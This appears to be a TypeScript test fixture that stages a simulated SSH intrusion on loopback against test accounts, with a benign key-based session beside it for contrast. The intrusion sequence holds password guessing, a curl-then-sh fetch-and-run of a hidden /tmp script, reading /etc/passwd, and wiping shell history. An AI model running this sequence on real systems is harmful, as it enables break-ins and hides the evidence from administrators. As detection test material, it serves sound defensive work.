// Somebody tries passwords until one fits, logs in, has a script fetched and run, and clears the history; beside it somebody
// works as always, with a key. Harmless: on the loopback, with accounts of the test.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { TestContext } from 'node:test'

import type { PrivateSshd } from './private-sshd.ts'
import { sshLogin } from './ssh-login.ts'

export const intruder = '127.0.0.67'
export const colleague = '127.0.0.8'
const tries = 8

export interface SshTrace {
  readonly script: string
  readonly scriptPort: number
  readonly history: string
}

export async function attackSsh(t: TestContext, sshd: PrivateSshd): Promise<SshTrace> {
  const scriptPort = await serveScript(t)
  const script = `/tmp/.x-${sshd.weak.name}.sh`
  t.after(() => {
    rmSync(script, { force: true })
  })
  const { name: user, password, home } = sshd.weak
  const guesses = Array.from({ length: tries }, (_, index) => `letmein${index}`)
  for (const guess of guesses) {
    assert.equal(await sshLogin(sshd, { from: intruder, user, password: guess, typed: [] }), false)
  }
  const typed = [
    'id',
    `curl -s -o ${script} http://127.0.0.1:${scriptPort}/update.sh`,
    `sh ${script}`,
    `rm -f ${script}`,
    'unset HISTFILE',
    `: > ${home}/.bash_history`,
  ]
  assert.equal(await sshLogin(sshd, { from: intruder, user, password, typed, pauseMs: 200 }), true)
  return { script, scriptPort, history: `${home}/.bash_history` }
}

/** One wrong password, then an ordinary session. */
export async function workBySsh(sshd: PrivateSshd): Promise<void> {
  const { name: user, key } = sshd.keyed
  const typed = [
    'ls -la /etc > /dev/null',
    'df -h > /dev/null',
    'echo "int main(void){return 0;}" > a.c',
    'gcc -o a a.c',
    './a',
  ]
  await sshLogin(sshd, { from: colleague, user, password: 'mistyped', typed: [] })
  assert.equal(await sshLogin(sshd, { from: colleague, user, key, typed, pauseMs: 100 }), true)
}

async function serveScript(t: TestContext): Promise<number> {
  const server = createServer((_, answer) => {
    answer.end('#!/bin/sh\nuname -a\ncat /etc/passwd > /dev/null\nsleep 0.2\n')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close())
  const address = server.address()
  return typeof address === 'object' && address !== null ? address.port : 0
}
